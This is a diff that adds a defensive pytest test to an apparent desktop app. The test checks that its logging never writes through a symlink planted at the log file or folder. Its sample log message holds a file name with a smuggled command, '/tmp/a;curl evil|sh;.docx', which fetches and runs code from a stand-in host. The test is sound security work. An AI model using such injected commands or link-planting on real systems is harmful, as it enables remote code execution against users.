@@ -503,3 +503,30 @@ def test_a_held_lock_names_its_holder_with_controls_escaped(tmp_path: Path) -> N
     message = str(refused.value)
     assert "\x1b" not in message and "\u202e" not in message and "\n" not in message
     assert "ann" in message and "desk" in message
+
+
+# -- the log file, planted ------------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("planted", ["file-link", "folder-link"])
+def test_a_link_planted_as_the_log_file_or_folder_is_never_written_through(planted: str, tmp_path: Path) -> None:
+    """The window appends every log line to logs/pressdesk.log in the data folder. A link planted there (a data
+    folder on a share) made it append to any file the user can write, e.g. a shell start-up file, with lines that
+    quote file names other people chose."""
+    data = tmp_path / "data"
+    (data / "elsewhere").mkdir(parents=True)
+    victim = tmp_path / "victim.sh"
+    victim.write_text("echo hello\n", encoding="utf-8")
+    if planted == "file-link":
+        (data / "logs").mkdir()
+        (data / "logs" / "pressdesk.log").symlink_to(victim)
+    else:
+        (data / "logs").symlink_to(tmp_path)
+        victim = tmp_path / "pressdesk.log"
+        victim.write_text("a file of the folder the link leads to\n", encoding="utf-8")
+    before = victim.read_bytes()
+    setup_logging(data)
+    try:
+        logging.getLogger("desktop_app.test").warning("imported /tmp/a;curl evil|sh;.docx")
+    finally:
+        shutdown_logging()
+    assert victim.read_bytes() == before
